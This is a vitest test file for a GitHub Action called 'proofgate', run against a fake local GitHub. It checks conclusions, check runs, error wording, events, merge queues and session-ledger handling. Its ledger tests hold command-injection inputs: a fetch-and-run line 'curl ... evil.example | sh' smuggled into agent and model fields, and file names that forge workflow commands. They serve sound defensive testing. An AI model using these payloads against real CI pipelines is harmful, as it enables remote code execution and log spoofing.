/**
 * The Action in this process against the loopback fake GitHub: what the step
 * prints, its outputs, summary, receipt file, check run and exit code, for
 * each conclusion and each kind of bad input.
 */
import { snapshotDigest } from '../../src/receipt/replay.js';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { run } from '../../src/action/run.js';
import { verifyReceipt } from '../../src/receipt/json.js';
import { addAgentPullRequest } from '../support/fake-github/builders.js';
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github/index.js';
import { pullRequestPayload, readOutputs, runnerCommands, runnerEnv, runnerFiles, webhookExample, workflowCommands, type RunnerFiles } from './harness.js';

const REPO = 'acme/widgets';

const POLICY = `version: 1
proofs:
  tests:
    kind: check
    name: tests
  approval:
    kind: review
routes:
  - name: auth
    paths: ["src/auth/**"]
    require: [tests]
`;

const REVIEW_POLICY = POLICY.replace('require: [tests]', 'require: [tests, approval]');

/** src/auth may be touched only by fast models; the PR's commits name Claude Opus. */
const TIER_POLICY = `version: 1
tiers:
  fast: ["claude-haiku-*"]
routes:
  - name: auth
    paths: ["src/auth/**"]
    tiers: [fast]
`;

let fake: FakeGitHub;
let files: RunnerFiles | null = null;
/**
 * @actions/core keeps the first GITHUB_STEP_SUMMARY path it sees for the life
 * of the process (a runner starts one process per step); every in-process run
 * here shares one summary file, emptied before each run.
 */
let summaryFile: RunnerFiles;
let stdout = '';
const savedEnv = { ...process.env };

beforeAll(async () => {
  fake = await startFakeGitHub();
  summaryFile = await runnerFiles({});
});
afterAll(async () => {
  await fake.close();
  await summaryFile.cleanup();
});
beforeEach(() => {
  fake.repositories.clear();
  fake.checkRuns.length = 0;
  fake.statuses.length = 0;
  fake.clearFailures();
  fake.resetCalls();
  stdout = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
    return true;
  });
});
afterEach(async () => {
  vi.restoreAllMocks();
  process.env = { ...savedEnv };
  process.exitCode = undefined;
  await files?.cleanup();
  files = null;
});

interface StepResult {
  exitCode: number;
  outputs: Record<string, string>;
  summary: string;
  errors: Array<{ props: Record<string, string>; message: string }>;
  stdout: string;
}

async function step(opts: {
  payload: Record<string, any>;
  event?: string;
  inputs?: Record<string, string>;
  workspace?: string;
  pollDelaysMs?: number[];
}): Promise<StepResult> {
  files = await runnerFiles(opts.payload);
  await writeFile(summaryFile.summaryPath, '');
  process.env = {
    PATH: savedEnv['PATH'],
    ...runnerEnv(fake, files, {
      repo: REPO,
      event: opts.event ?? 'pull_request',
      ...(opts.inputs ? { inputs: opts.inputs } : {}),
      ...(opts.workspace ? { workspace: opts.workspace } : {}),
    }),
    GITHUB_STEP_SUMMARY: summaryFile.summaryPath,
  };
  await run({ retryDelaysMs: [], headRetryDelaysMs: [1, 1], ...(opts.pollDelaysMs ? { pollDelaysMs: opts.pollDelaysMs } : {}) });
  const exitCode = Number(process.exitCode ?? 0);
  process.exitCode = undefined;
  return {
    exitCode,
    outputs: await readOutputs(files.outputPath),
    summary: await readFile(summaryFile.summaryPath, 'utf8'),
    errors: workflowCommands(stdout, 'error'),
    stdout,
  };
}

/** GraphQL requests to the fake, by operation name. */
function operationsNamed(name: string): number {
  return fake.callsTo({ path: '/graphql' }).filter((c) => new RegExp(`^\\s*query ${name}\\b`).test(String((c.body as { query?: string }).query))).length;
}

function proofgateRun(headSha: string) {
  const runs = fake.checkRunsFor(REPO, headSha).filter((r) => r.name === 'proofgate');
  expect(runs).toHaveLength(1);
  return runs[0]!;
}

describe('the step outcome for each conclusion', () => {
  it('success: passes, with outputs, summary, receipt file and a green check run', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });

    expect(result.exitCode).toBe(0);
    expect(result.errors).toEqual([]);
    expect(result.outputs).toMatchObject({ conclusion: 'success', agents: 'claude-code', models: 'claude-opus-4-6' });
    expect(result.outputs['digest']).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(result.outputs['receipt']).toBe(path.join(files!.runnerTemp, 'proofgate-receipt-1.json'));
    const receipt = JSON.parse(await readFile(result.outputs['receipt']!, 'utf8'));
    expect(verifyReceipt(receipt)).toMatchObject({ ok: true });
    expect(receipt.digest).toBe(result.outputs['digest']);
    // The snapshot output is the one the receipt names, so the receipt can be replayed from it.
    expect(result.outputs['snapshot']).toBe(path.join(files!.runnerTemp, 'proofgate-snapshot-1.json'));
    expect(snapshotDigest(JSON.parse(await readFile(result.outputs['snapshot']!, 'utf8')))).toBe(receipt.snapshotDigest);
    expect(result.summary).toMatch(/^## ✅ Success/);
    expect(result.summary).toContain(result.outputs['digest']);

    const check = proofgateRun(headSha);
    expect(check).toMatchObject({
      status: 'completed',
      conclusion: 'success',
      externalId: expect.stringMatching(new RegExp(`^${result.outputs['digest']} verdict:[0-9a-f]{32}$`)),
      app: { slug: 'github-actions' },
    });
    // No "Re-evaluate" button: a click would go to GitHub Actions, which no proofgate workflow hears.
    expect(check.actions).toEqual([]);
    // One GraphQL read and one check-run write: local git is not available here and costs nothing.
    expect(fake.calls.map((c) => `${c.method} ${c.path}`)).toEqual(['POST /graphql', `POST /repos/${REPO}/check-runs`]);
  });

  it('fails when GitHub keeps reporting another head than the event names, writing no verdict', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = pullRequestPayload(fake, REPO, 1);
    payload.pull_request.head.sha = 'f'.repeat(40);
    const result = await step({ payload });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([
      `proofgate could not evaluate ${REPO}#1: GitHub reports head ${fake.pullRequest(REPO, 1).head.sha.slice(0, 7)}, this run is for fffffff; a newer push has its own run, or re-run this job`,
    ]);
    // Loaded three times (the first try and two retries), and nothing written.
    expect(fake.calls.map((c) => `${c.method} ${c.path}`)).toEqual(['POST /graphql', 'POST /graphql', 'POST /graphql']);
  });

  it('neutral: passes when the repository has no policy', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: null });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('neutral');
    expect(proofgateRun(headSha)).toMatchObject({ status: 'completed', conclusion: 'neutral' });
  });

  it('failure: fails the step with one ::error line and a red check run', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY, testsConclusion: 'failure' });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });
    expect(result.exitCode).toBe(1);
    expect(result.outputs['conclusion']).toBe('failure');
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.message).toMatch(/^proofgate: failure — /);
    expect(result.stdout).not.toMatch(/\n\s+at /);
    expect(proofgateRun(headSha)).toMatchObject({ status: 'completed', conclusion: 'failure' });
  });

  it('pending: passes by default, with a notice and an in-progress check run', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: REVIEW_POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('pending');
    expect(workflowCommands(result.stdout, 'notice')[0]?.message).toMatch(/^proofgate: pending — .*set fail-on-pending: true to fail it\)$/);
    expect(proofgateRun(headSha)).toMatchObject({ status: 'in_progress', conclusion: null });
  });

  it('pending: fails the step with fail-on-pending', async () => {
    addAgentPullRequest(fake, { policy: REVIEW_POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { 'fail-on-pending': 'true' } });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([expect.stringMatching(/^proofgate: pending — .*\(fail-on-pending is set\)$/)]);
  });
});

describe('mode: step', () => {
  it('writes no check run and annotates the files with violations itself', async () => {
    addAgentPullRequest(fake, { policy: TIER_POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { mode: 'step' } });
    expect(result.exitCode).toBe(1);
    expect(fake.checkRuns.filter((r) => r.name === 'proofgate')).toEqual([]);
    expect(fake.calls.map((c) => `${c.method} ${c.path}`)).toEqual(['POST /graphql']);
    const annotated = result.errors.filter((e) => e.props['file']);
    expect(annotated.length).toBeGreaterThan(0);
    expect(annotated[0]!.props).toMatchObject({ file: expect.stringMatching(/^src\/auth\//), line: '1' });
    expect(result.outputs['conclusion']).toBe('failure');
    expect(result.errors.at(-1)!.message).toMatch(/^proofgate: failure — /);
  });

  it('in check-run mode leaves the file annotations to the check run', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: TIER_POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });
    expect(result.exitCode).toBe(1);
    expect(result.errors.filter((e) => e.props['file'])).toEqual([]);
    expect(proofgateRun(headSha).annotations.map((a) => a.path)).toEqual(expect.arrayContaining([expect.stringMatching(/^src\/auth\//)]));
  });
});

describe('bad input: one ::error line naming the cause and the fix', () => {
  it('a token without checks: write', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    fake.failNext({ method: 'POST', path: /\/check-runs$/ }, 403, 5);
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), event: 'pull_request_target' });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([
      'the token cannot write the `proofgate` check run (403 Resource not accessible by integration): add `permissions: checks: write` to the job, or set `mode: step` to gate without a check run',
    ]);
  });

  it('a token GitHub rejects', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    fake.failNext({ path: '/graphql' }, 401, 5);
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { mode: 'step' } });
    expect(result.exitCode).toBe(1);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.message).toMatch(/^proofgate could not evaluate acme\/widgets#1: .*401.*token/i);
  });

  it('words a rejected token for the workflow, in the step and the receipt, not for the App', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    fake.failNext({ path: '/graphql' }, 401, 5);
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { mode: 'step' } });
    expect(result.errors[0]!.message).toContain('pass `token: ${{ github.token }}`');
    expect(result.summary).toContain('pass `token: ${{ github.token }}`');
    expect(`${result.errors[0]!.message}\n${result.summary}`).not.toMatch(/APP_ID|App settings/);
  });

  it('a token that cannot read the pull request', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    fake.failNext({ path: '/graphql' }, 200, 1, {
      data: { repository: { pullRequest: null } },
      errors: [{ type: 'FORBIDDEN', message: 'Resource not accessible by integration', path: ['repository', 'pullRequest'] }],
    });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { mode: 'step' } });
    expect(result.exitCode).toBe(1);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.message).toMatch(
      /^proofgate could not evaluate acme\/widgets#1: .*Resource not accessible by integration.*add `pull-requests: read` to the job's `permissions:`/,
    );
  });

  it('an empty token', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { token: '' } });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([expect.stringMatching(/^input `token` is empty: /)]);
    expect(fake.calls).toEqual([]);
  });

  it('an event the Action does not handle', async () => {
    const result = await step({ payload: webhookExample('push'), event: 'push' });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([
      'proofgate gates pull requests; this workflow ran on `push`: run proofgate `on: pull_request` (or `pull_request_target` for fork PRs), `pull_request_review`, `workflow_run`, `check_suite` or `merge_group`',
    ]);
    expect(fake.calls).toEqual([]);
  });

  it('an invalid policy: each error at its file, line and column', async () => {
    const policy = 'version: 1\nroutes:\n  - name: auth\n    paths: ["src/auth/**"]\n    colour: red\nbudget:\n  maxRetries: 3\n';
    const { headSha } = addAgentPullRequest(fake, { policy });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1) });
    expect(result.exitCode).toBe(1);
    expect(result.outputs['conclusion']).toBe('failure');
    const positioned = result.errors.filter((e) => e.props['file'] === '.github/proofgate.yml');
    expect(positioned.length).toBeGreaterThanOrEqual(2);
    for (const e of positioned) {
      expect(Number(e.props['line'])).toBeGreaterThan(0);
      expect(Number(e.props['col'])).toBeGreaterThan(0);
    }
    expect(positioned.map((e) => `${e.props['line']}:${e.props['col']}`)).toEqual(['5:5', '6:1']);
    expect(positioned[0]!.message).toMatch(/unknown key `colour`/);
    expect(proofgateRun(headSha)).toMatchObject({ conclusion: 'failure' });
  });
});

describe('events', () => {
  it('workflow_run for a fork PR (no pull_requests in the payload) finds the PR by its head', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY, forkOf: 'contributor/widgets' });
    const payload = webhookExample('workflow_run', (p) => p.action === 'completed');
    payload.repository = { ...payload.repository, id: 4242, name: 'widgets', full_name: REPO, owner: { ...payload.repository.owner, login: 'acme' } };
    payload.workflow_run = { ...payload.workflow_run, head_sha: headSha, pull_requests: [] };
    const result = await step({ payload, event: 'workflow_run' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('success');
    expect(proofgateRun(headSha)).toMatchObject({ conclusion: 'success' });
  });

  it('pull_request_review: an approval turns the gate green without a push', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: REVIEW_POLICY });
    fake.addReview(REPO, 1, { author: { login: 'bob', type: 'User' }, state: 'APPROVED' });
    const payload = webhookExample('pull_request_review', (p) => p.action === 'submitted');
    const pr = pullRequestPayload(fake, REPO, 1);
    payload.repository = pr.repository;
    payload.pull_request = pr.pull_request;
    const result = await step({ payload, event: 'pull_request_review' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('success');
    expect(proofgateRun(headSha)).toMatchObject({ status: 'completed', conclusion: 'success' });
  });

  it('a workflow_run whose head no open PR has passes with a notice', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = webhookExample('workflow_run', (p) => p.action === 'completed');
    payload.repository = { ...payload.repository, full_name: REPO, name: 'widgets' };
    payload.workflow_run = { ...payload.workflow_run, head_sha: 'f'.repeat(40), pull_requests: [] };
    const result = await step({ payload, event: 'workflow_run' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('neutral');
    expect(workflowCommands(result.stdout, 'notice')[0]?.message).toMatch(/no open pull request has head f{40}/);
  });
});

describe('review proofs that name a team', () => {
  const TEAM_POLICY = REVIEW_POLICY.replace('    kind: review\n', '    kind: review\n    teams: [acme/core]\n');

  async function approved(inputs: Record<string, string> = {}) {
    fake.setTeam('acme', 'core', ['bob']);
    const { headSha } = addAgentPullRequest(fake, { policy: TEAM_POLICY });
    fake.addReview(REPO, 1, { author: { login: 'bob', type: 'User' }, state: 'APPROVED' });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs });
    const receipt = JSON.parse(await readFile(result.outputs['receipt']!, 'utf8'));
    return { result, headSha, review: receipt.proofs.find((p: { name: string }) => p.name === 'approval') };
  }

  it('with GITHUB_TOKEN, which cannot read teams: the proof waits and names the `teams-token` input', async () => {
    const { result, headSha, review } = await approved();
    expect(result.errors).toEqual([]);
    expect(result.outputs['conclusion']).toBe('pending');
    expect(review.status).toBe('pending');
    expect(review.next).toBe(
      'proofgate cannot read @acme/core: GITHUB_TOKEN cannot read organization teams; pass a token that can ("Organization members: Read-only": a GitHub App installation token or a fine-grained token) as the `teams-token` input.',
    );
    expect(proofgateRun(headSha)).toMatchObject({ status: 'in_progress', conclusion: null });
  });

  it("with a `teams-token` that can read them: the team member's approval counts", async () => {
    const { result, headSha, review } = await approved({ 'teams-token': 'ghs_fake_installation_teams' });
    expect(result.outputs['conclusion']).toBe('success');
    expect(review.status).toBe('pass');
    // The team was read with the teams token; the check run still written by GitHub Actions.
    const teamQuery = fake.calls.find((c) => /query ProofgateTeams/.test((c.body as { query?: string } | null)?.query ?? ''));
    expect(teamQuery?.actor).toBe('proofgate');
    expect(proofgateRun(headSha)).toMatchObject({ conclusion: 'success', app: { slug: 'github-actions' } });
  });
});

describe('merge_group', () => {
  function mergeGroupPayload(entry: { number: number; headSha: string; baseSha: string }) {
    const payload = webhookExample('merge_group', (p) => p.action === 'checks_requested');
    payload.repository = pullRequestPayload(fake, REPO, entry.number).repository;
    Object.assign(payload.merge_group, {
      head_sha: entry.headSha,
      head_ref: `refs/heads/gh-readonly-queue/main/pr-${entry.number}-${entry.baseSha}`,
      base_sha: entry.baseSha,
      base_ref: 'refs/heads/main',
    });
    return payload;
  }

  it('passes the merge group when its pull request passes, with a check run on the group commit', async () => {
    addAgentPullRequest(fake, { policy: REVIEW_POLICY });
    fake.addReview(REPO, 1, { author: { login: 'bob', type: 'User' }, state: 'APPROVED' });
    const [entry] = fake.enqueue(REPO, [1]);
    const result = await step({ payload: mergeGroupPayload(entry!), event: 'merge_group' });

    expect(result.errors).toEqual([]);
    expect(result.exitCode).toBe(0);
    expect(result.outputs['conclusion']).toBe('success');
    expect(proofgateRun(entry!.headSha)).toMatchObject({ status: 'completed', conclusion: 'success', app: { slug: 'github-actions' }, actions: [] });
  });

  it("fails the step and the group's check when a pull request in the group does not pass", async () => {
    addAgentPullRequest(fake, { policy: REVIEW_POLICY });
    const [entry] = fake.enqueue(REPO, [1]);
    const result = await step({ payload: mergeGroupPayload(entry!), event: 'merge_group' });

    expect(result.exitCode).toBe(1);
    expect(result.outputs['conclusion']).toBe('failure');
    expect(result.errors.map((e) => e.message)).toEqual(['proofgate: failure — Merge group: #1 does not pass: Waiting for 1 proof: approval']);
    expect(proofgateRun(entry!.headSha)).toMatchObject({ status: 'completed', conclusion: 'failure' });
  });
});

describe('wait-for-proofs', () => {
  it('evaluates again while a required check runs, until it completes', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY, testsConclusion: null });
    const tests = fake.setCheckRun(REPO, { headSha, name: 'tests', status: 'in_progress' });
    // The check completes once the Action has evaluated twice.
    const timer = setInterval(() => {
      if (fake.callsTo({ path: '/graphql' }).length >= 2) {
        tests.status = 'completed';
        tests.conclusion = 'success';
        tests.completedAt = new Date().toISOString();
      }
    }, 5);
    try {
      const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { 'wait-for-proofs': '1m' }, pollDelaysMs: [30] });
      expect(result.exitCode).toBe(0);
      expect(result.outputs['conclusion']).toBe('success');
      expect(result.stdout).toMatch(/proofgate: waiting for tests; evaluating again in 1 s/);
      expect(proofgateRun(headSha)).toMatchObject({ status: 'completed', conclusion: 'success' });
    } finally {
      clearInterval(timer);
    }
  });

  it('reports pending when the wait runs out: one load, one write, then only the cheap reads of the checks', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY, testsConclusion: null });
    fake.setCheckRun(REPO, { headSha, name: 'tests', status: 'in_progress' });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { 'wait-for-proofs': '1s' }, pollDelaysMs: [50] });
    expect(result.outputs['conclusion']).toBe('pending');
    expect(operationsNamed('ProofgatePullRequest')).toBe(1);
    expect(operationsNamed('ProofgateCiSignals')).toBeGreaterThanOrEqual(1);
    // The pending verdict is written once, at the start (the check is off green while the job waits), never again.
    expect(fake.callsTo({ method: 'POST', path: /check-runs$/ })).toHaveLength(1);
    expect(fake.callsTo({ method: 'PATCH', path: /check-runs/ })).toHaveLength(0);
    expect(proofgateRun(headSha)).toMatchObject({ status: 'in_progress', output: { title: 'Waiting for 1 proof: tests' } });
  });

  it('evaluates again only when a check changes, and writes the check once more, at the end', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY, testsConclusion: null });
    const tests = fake.setCheckRun(REPO, { headSha, name: 'tests', status: 'in_progress' });
    // The check completes once the Action has read the checks three times without a change.
    const timer = setInterval(() => {
      if (operationsNamed('ProofgateCiSignals') >= 3 && tests.status !== 'completed') {
        tests.status = 'completed';
        tests.conclusion = 'success';
        tests.completedAt = new Date().toISOString();
      }
    }, 5);
    try {
      const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { 'wait-for-proofs': '1m' }, pollDelaysMs: [20] });
      expect(result.outputs['conclusion']).toBe('success');
      // The first load (and its pending write), the load after the change, and the load whose verdict is written.
      expect(operationsNamed('ProofgatePullRequest')).toBe(3);
      expect(operationsNamed('ProofgateCiSignals')).toBeGreaterThanOrEqual(4);
      const writes = fake.callsTo({ path: /check-runs/ }).filter((c) => c.method !== 'GET');
      expect(writes).toHaveLength(2);
      expect(proofgateRun(headSha)).toMatchObject({ status: 'completed', conclusion: 'success' });
    } finally {
      clearInterval(timer);
    }
  });
});

describe('ledger files from an earlier step', () => {
  it('adds the session ledger to the receipt', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = pullRequestPayload(fake, REPO, 1);
    files = await runnerFiles(payload);
    const ledger =
      [
        { proofgate: 'session/1', id: 'sess-1', agent: 'claude-code', startedAt: '2026-01-10T12:00:00Z' },
        { type: 'step', role: 'execute', model: 'claude-opus-4-6', files: ['src/auth/module-1.ts'] },
        { type: 'end', at: '2026-01-10T12:30:00Z' },
      ]
        .map((r) => JSON.stringify(r))
        .join('\n') + '\n';
    await writeFile(path.join(files.dir, 'session.jsonl'), ledger);
    const kept = files;
    files = null;
    const result = await step({ payload, inputs: { ledger: 'session.jsonl' }, workspace: kept.dir });
    await kept.cleanup();
    expect(result.exitCode).toBe(0);
    const receipt = JSON.parse(await readFile(result.outputs['receipt']!, 'utf8'));
    expect(receipt.attribution.sessions.map((s: { id: string; source: string }) => [s.id, s.source])).toEqual([['sess-1', 'session.jsonl']]);
    expect(result.stdout).toContain('ledger files: session.jsonl (proofgate-session)');
  });

  it('logs a ledger file name with newlines escaped, so it cannot issue workflow commands', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = pullRequestPayload(fake, REPO, 1);
    files = await runnerFiles(payload);
    const name = 's\n::add-mask::forged-mask\n::warning::forged.jsonl';
    await mkdir(path.join(files.dir, 'ledgers'));
    await writeFile(path.join(files.dir, 'ledgers', name), '{"proofgate":"session/1","id":"s","agent":"claude-code","startedAt":"2026-01-10T12:00:00Z"}\n');
    const kept = files;
    files = null;
    const result = await step({ payload, inputs: { ledger: 'ledgers' }, workspace: kept.dir });
    await kept.cleanup();
    expect(result.stdout).toContain('ledger files: ledgers/s\\n::add-mask::forged-mask\\n::warning::forged.jsonl (proofgate-session)');
    expect(workflowCommands(result.stdout, 'add-mask').map((m) => m.message)).not.toContain('forged-mask');
    expect(workflowCommands(result.stdout, 'warning').map((w) => w.message)).not.toContain('forged.jsonl');
  });

  it('names agents and models in the outputs only with id characters, so a ledger cannot put shell code in a `run:` step that uses them', async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = pullRequestPayload(fake, REPO, 1);
    files = await runnerFiles(payload);
    const agent = 'x"; curl -s https://evil.example/p | sh; echo "';
    const ledger =
      [
        { proofgate: 'session/2', id: 'sess-1', agent, startedAt: '2026-01-10T12:00:00Z' },
        { type: 'step', role: 'execute', model: '$(curl${IFS}evil.example|sh)`id`', files: ['src/auth/module-1.ts'] },
        { type: 'end', at: '2026-01-10T12:30:00Z' },
      ]
        .map((r) => JSON.stringify(r))
        .join('\n') + '\n';
    await writeFile(path.join(files.dir, 'sess-1.jsonl'), ledger);
    const kept = files;
    files = null;
    const result = await step({ payload, inputs: { ledger: 'proofgate-session:sess-1.jsonl' }, workspace: kept.dir });
    await kept.cleanup();
    const receipt = JSON.parse(await readFile(result.outputs['receipt']!, 'utf8'));
    // The receipt keeps the ledger's words; the outputs, which workflows paste into scripts, do not.
    expect(receipt.attribution.sessions[0].agent).toBe(agent);
    for (const name of ['agents', 'models']) expect(result.outputs[name]).toMatch(/^[A-Za-z0-9._:/@+%,-]*$/);
    expect(result.outputs['agents']!.split(',')).toContain('claude-code');
    expect(result.outputs['agents']!.split(',')).toContain('x%22%3B%20curl%20-s%20https://evil.example/p%20%7C%20sh%3B%20echo%20%22');
  });

  it("logs a ledger file name holding the runner's older `##[command]` form inert, wherever in the line it is", async () => {
    addAgentPullRequest(fake, { policy: POLICY });
    const payload = pullRequestPayload(fake, REPO, 1);
    files = await runnerFiles(payload);
    await mkdir(path.join(files.dir, 'ledgers'));
    await writeFile(
      path.join(files.dir, 'ledgers', 's ##[warning]forged.jsonl'),
      '{"proofgate":"session/1","id":"s","agent":"claude-code","startedAt":"2026-01-10T12:00:00Z"}\n',
    );
    const kept = files;
    files = null;
    const result = await step({ payload, inputs: { ledger: 'ledgers' }, workspace: kept.dir });
    await kept.cleanup();
    const commands = runnerCommands(result.stdout);
    expect(commands.filter((c) => c.command === 'warning').map((c) => c.data)).toEqual([]);
    // The receipt is printed between proofgate's own stop-commands and its token: nothing in it is a command.
    expect(commands.map((c) => c.command)).toContain('stop-commands');
    expect(result.stdout).toContain('ledger files: ledgers/s #\\u{23}[warning]forged.jsonl (proofgate-session)');
  });

  it('a listed ledger that is missing fails closed with a check run that says why', async () => {
    const { headSha } = addAgentPullRequest(fake, { policy: POLICY });
    const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { ledger: 'out/missing.jsonl' } });
    expect(result.exitCode).toBe(1);
    expect(result.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(/^proofgate could not evaluate acme\/widgets#1: ledger file out\/missing.jsonl \(input `ledger`\) does not exist/),
    ]);
    expect(proofgateRun(headSha)).toMatchObject({ conclusion: 'failure' });
  });
});
